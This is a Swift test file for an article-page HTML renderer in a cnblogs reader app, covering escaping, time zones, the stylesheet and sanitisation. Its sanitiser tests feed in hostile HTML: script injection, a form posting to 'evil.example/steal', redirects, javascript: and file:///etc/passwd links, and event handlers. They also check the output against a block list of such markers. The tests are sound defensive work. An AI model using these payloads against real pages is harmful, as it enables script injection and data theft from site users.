import CnblogsClient
import Foundation
import Testing

/// What the rendered article page contains: its head, its header line, escaping and the stylesheet.
@Suite struct ArticlePageTests {
    /// 2016-08-13 15:41:00 UTC, which is 23:41 in China.
    static let published = Date(timeIntervalSince1970: 1_471_102_860)

    static func post(
        title: String = "Swift 网络层", author: String? = "lihua", published: Date? = ArticlePageTests.published,
        link: URL? = URL(string: "http://www.cnblogs.com/lihua/p/5770214.html"), html: String = "<p>正文</p>"
    ) -> Article {
        Article(kind: .post, id: 5_770_214, title: title, author: author, published: published, link: link, html: html)
    }

    static func news(source: String? = "InfoQ") -> Article {
        Article(
            kind: .news, id: 551_203, title: "新闻", source: source, published: published,
            link: URL(string: "http://news.cnblogs.com/n/551203/"), html: "<p>新闻正文</p>")
    }

    @Test("the head declares UTF-8, a phone viewport, Chinese, the title and a no-script policy")
    func head() {
        let html = ArticlePage(article: Self.post()).html()
        #expect(html.hasPrefix("<!DOCTYPE html>\n<html lang=\"zh-CN\">\n<head>\n<meta charset=\"utf-8\">"))
        #expect(html.contains(#"<meta name="viewport" content="width=device-width, initial-scale=1">"#))
        #expect(
            html.contains(
                #"<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data: http: https:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'">"#
            ))
        #expect(html.contains("<title>Swift 网络层</title>"))
        #expect(html.contains("<h1 class=\"title\">Swift 网络层</h1>"))
        #expect(html.hasSuffix("</html>\n"))
    }

    @Test("the title, author and link are escaped for where they appear: quotes only in the attribute")
    func escapesFields() {
        let article = Self.post(
            title: #"<b>A & "B"</b>"#, author: "<i>me</i> & co",
            link: URL(string: "http://www.cnblogs.com/a/p/1.html?x=1&y=%22"))
        let html = ArticlePage(article: article).html()
        #expect(html.contains(#"<title>&lt;b&gt;A &amp; "B"&lt;/b&gt;</title>"#))
        #expect(html.contains(#"<h1 class="title">&lt;b&gt;A &amp; "B"&lt;/b&gt;</h1>"#))
        #expect(html.contains("<span class=\"author\">&lt;i&gt;me&lt;/i&gt; &amp; co</span>"))
        #expect(html.contains(#"href="http://www.cnblogs.com/a/p/1.html?x=1&amp;y=%22""#))
        #expect(!html.contains("<b>A"))
        #expect(!html.contains("<i>me"))
    }

    @Test("a news item's source is escaped")
    func escapesSource() {
        let html = ArticlePage(article: Self.news(source: #"A&B "News" <Daily>"#)).html()
        #expect(html.contains(#"<span class="source">来源：A&amp;B "News" &lt;Daily&gt;</span>"#))
    }

    @Test("a post's byline is its author, a news item's its source")
    func byline() {
        let post = ArticlePage(article: Self.post()).html()
        #expect(post.contains("<span class=\"author\">lihua</span>"))
        #expect(!post.contains("class=\"source\""))

        var newsArticle = Self.news()
        newsArticle.author = "ignored for news"
        let news = ArticlePage(article: newsArticle).html()
        #expect(news.contains("<span class=\"source\">来源：InfoQ</span>"))
        #expect(!news.contains("class=\"author\""))
        #expect(!news.contains("ignored for news"))
    }

    @Test(
        "the date is shown in China time, whatever the machine's zone",
        arguments: [
            (1_471_102_860.0, "2016-08-13 23:41", "2016-08-13T23:41:00+08:00"),
            (1_471_104_000.0, "2016-08-14 00:00", "2016-08-14T00:00:00+08:00"),
            (0.0, "1970-01-01 08:00", "1970-01-01T08:00:00+08:00"),
        ])
    func chinaTime(seconds: Double, shown: String, machine: String) {
        let article = Self.post(published: Date(timeIntervalSince1970: seconds))
        let html = ArticlePage(article: article).html()
        #expect(html.contains("<time datetime=\"\(machine)\">\(shown)</time>"))
    }

    @Test("another zone can be asked for")
    func otherZone() throws {
        let utc = try #require(TimeZone(identifier: "UTC"))
        let html = ArticlePage(article: Self.post(), timeZone: utc).html()
        #expect(html.contains("<time datetime=\"2016-08-13T15:41:00+00:00\">2016-08-13 15:41</time>"))
    }

    @Test("the header links to the original on the web")
    func link() {
        let html = ArticlePage(article: Self.post()).html()
        #expect(
            html.contains(
                #"<a class="original" href="http://www.cnblogs.com/lihua/p/5770214.html" rel="noreferrer">阅读原文</a>"#))
    }

    @Test(
        "a missing author, date or link is left out, and the header line with them",
        arguments: [
            (nil, nil, nil, [] as [String]),
            ("lihua", nil, nil, ["class=\"author\""]),
            (nil, ArticlePageTests.published, nil, ["<time "]),
            (nil, nil, URL(string: "https://www.cnblogs.com/x"), ["class=\"original\""]),
        ] as [(String?, Date?, URL?, [String])])
    func missingFields(author: String?, published: Date?, link: URL?, present: [String]) {
        let html = ArticlePage(article: Self.post(author: author, published: published, link: link)).html()
        for marker in ["class=\"author\"", "<time ", "class=\"original\""] {
            #expect(html.contains(marker) == present.contains(marker), "\(marker)")
        }
        #expect(html.contains("class=\"details\"") == !present.isEmpty)
        #expect(!html.contains("nil"))
    }

    @Test("an empty author or source counts as missing")
    func emptyByline() {
        #expect(!ArticlePage(article: Self.post(author: "")).html().contains("class=\"author\""))
        #expect(!ArticlePage(article: Self.news(source: "")).html().contains("class=\"source\""))
    }

    @Test(
        "only a web link is offered as the original",
        arguments: ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,hi"])
    func nonWebLink(link: String) {
        let html = ArticlePage(article: Self.post(link: URL(string: link))).html()
        #expect(!html.contains("class=\"original\""))
        #expect(!html.contains(link))
    }

    @Test("by default the body is the article's HTML sanitized against its link, once, inside the content block")
    func body() {
        let article = Self.post(html: "<p>正文一 <b>&amp;</b> <script>x()</script><img src=\"a.png\"></p>")
        let own = ArticlePage(article: article)
        let expected = "<p>正文一 <b>&amp;</b> <img src=\"http://www.cnblogs.com/lihua/p/a.png\"></p>"
        #expect(own.bodyHTML == expected)
        #expect(own.html().contains("<div class=\"content\">\n\(expected)\n</div>"))
        #expect(own.html().components(separatedBy: "正文一").count == 2)
    }

    @Test("a body given to the page goes in as it is, unsanitized")
    func givenBody() {
        let article = Self.post(html: "<p>正文一</p>")
        let replaced = ArticlePage(article: article, bodyHTML: "<p>cleaned <u onclick=\"trusted()\">u</u></p>")
        #expect(replaced.bodyHTML == "<p>cleaned <u onclick=\"trusted()\">u</u></p>")
        #expect(
            replaced.html().contains("<div class=\"content\">\n<p>cleaned <u onclick=\"trusted()\">u</u></p>\n</div>"))
        #expect(!replaced.html().contains("正文一"))
    }

    @Test("a default page from a hostile body has no script, form, base, refresh, frame or handler")
    func hostileBody() throws {
        // Given an article whose HTML tries everything a page must not do.
        let article = Self.post(
            html: """
                <p>text</p><script>alert(1)</script><form action="https://evil.example/steal"><input name="p"></form>
                <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
                <iframe src="https://evil.example/"></iframe><a href="javascript:alert(2)">a</a>
                <img src="x.png" onerror="alert(3)"><svg><animate attributeName="href" to="javascript:alert(4)"/></svg>
                <div style="position:fixed;background:url(https://evil.example/t.gif)">overlay</div>
                """)

        // When the page is made without a body of its own.
        let html = ArticlePage(article: article).html()

        // Then none of it is in the page, and the harmless parts are.
        let content = try #require(html.range(of: "<div class=\"content\">"))
        let body = String(html[content.lowerBound...])
        for hostile in [
            "<script", "alert(", "<form", "action=", "<input", "<base", "<meta", "refresh", "<iframe", "javascript:",
            "onerror", "<svg", "<animate", "position:", "url(", "evil.example",
        ] {
            #expect(!body.contains(hostile), "the page's body holds \(hostile)")
        }
        #expect(body.contains("<p>text</p>"))
        #expect(body.contains("<img src=\"http://www.cnblogs.com/lihua/p/x.png\">"))
        #expect(body.contains("<div>overlay</div>"))
    }

    @Test(
        "the stylesheet fits a phone, scrolls code and tables, sets CJK type and has a dark scheme",
        arguments: [
            "img, video, svg, canvas { max-width: 100%; height: auto; }",
            "display: block; max-width: 100%; overflow-x: auto;",
            "overflow-x: auto; white-space: pre; overflow-wrap: normal;",
            "overflow-wrap: anywhere;",
            #""PingFang SC", "Hiragino Sans GB", "Noto Sans CJK SC""#,
            #""Microsoft YaHei", sans-serif;"#,
            "line-height: 1.75;",
            "margin: 0 auto; max-width: 42rem; padding: 16px;",
            "*, *::before, *::after { box-sizing: border-box; }",
            "@media (prefers-color-scheme: dark) {",
            "color-scheme: light dark;",
        ])
    func stylesheet(rule: String) {
        #expect(ArticlePage.stylesheet.contains(rule))
        #expect(ArticlePage(article: Self.post()).html().contains(rule))
    }

    @Test("the page loads nothing from outside: no scripts, links or imports of its own")
    func selfContained() {
        let html = ArticlePage(article: Self.post()).html()
        #expect(!html.contains("<script"))
        #expect(!html.contains("<link"))
        #expect(!html.contains("@import"))
        #expect(!html.contains("url("))
    }
}
